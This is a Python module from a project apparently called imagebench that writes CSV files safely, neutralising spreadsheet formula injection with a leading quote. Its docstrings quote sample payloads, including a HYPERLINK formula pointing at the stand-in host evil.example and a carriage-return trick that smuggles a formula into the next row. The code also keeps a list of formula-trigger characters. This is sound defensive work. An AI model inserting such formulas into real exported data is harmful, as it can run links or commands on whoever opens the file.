"""The one CSV writer of imagebench: cells a spreadsheet would run are written as text (issue 24
item 7).

OWASP's rule (CSV injection): Excel, LibreOffice and Google Sheets read a cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula, so a prompt, a judge's
rationale or a name such as ``=HYPERLINK("http://evil.example/?x","open me")`` becomes a live link
(or, through DDE, a command) in whoever opens the file. Every CSV imagebench writes (``--format
csv`` of every command, the study bundle's tables, the demo's labels) goes through
:func:`write_csv`, which puts a single quote before such a cell: the spreadsheet shows it as text
(LibreOffice Calc with the quote in front), runs nothing. tests/flows/test_security_inputs.py holds that no other module writes CSV.

Decisions (docs/DECISIONS.md):

- Numbers stay numbers: an int, float or Decimal is written as it is, so ``-0.5`` reaches an
  analyst as -0.5. Text that is exactly a decimal number (``"-0.5"``, ``"+3"``, ``"1e-3"``) is
  left alone too: a spreadsheet reads it as that number and runs nothing. ``"-1+1"`` or ``"-inf"``
  are not numbers and get the quote.
- Text that already begins with a quote gets one more, so a reader undoes the rule in one step,
  whatever the text: drop one leading ``'`` where there is one.
- Everything that is not a number is text here (dates, lists, booleans as the caller wrote them),
  and ``None`` is an empty cell (absent, never 0). Headers follow the same rule: ``imagebench sql``
  names its columns after the user's aliases.
"""

from __future__ import annotations

import csv
import decimal
import io
import itertools
import re
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP's list, and a line feed beside the CR
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet runs (see the module's decisions)."""
    if value is None:
        return ""
    if isinstance(value, (int, float, decimal.Decimal)) and not isinstance(value, bool):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith("'") or (text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text)):
        return "'" + text
    return text


def write_csv(out: TextIO, header: Sequence[Any], rows: Iterable[Sequence[Any]], lineterminator: str = "\n") -> None:
    """``header`` then ``rows`` as CSV on ``out``, every cell through :func:`cell`, and every cell
    holding a line break quoted. Python's writer quotes only the characters of its own line
    terminator: with ``"\n"`` a bare CR went out unquoted, and a spreadsheet starts a new row at
    it, so ``"ok\r=HYPERLINK(...)"`` ran as a formula in the next row's first cell. Each row is
    written with ``"\r\n"`` (CR and LF both quoted), then given ``lineterminator``."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    for row in itertools.chain([header], rows):
        writer.writerow([cell(v) for v in row])
        out.write(buf.getvalue()[:-2] + lineterminator)
        buf.seek(0)
        buf.truncate()
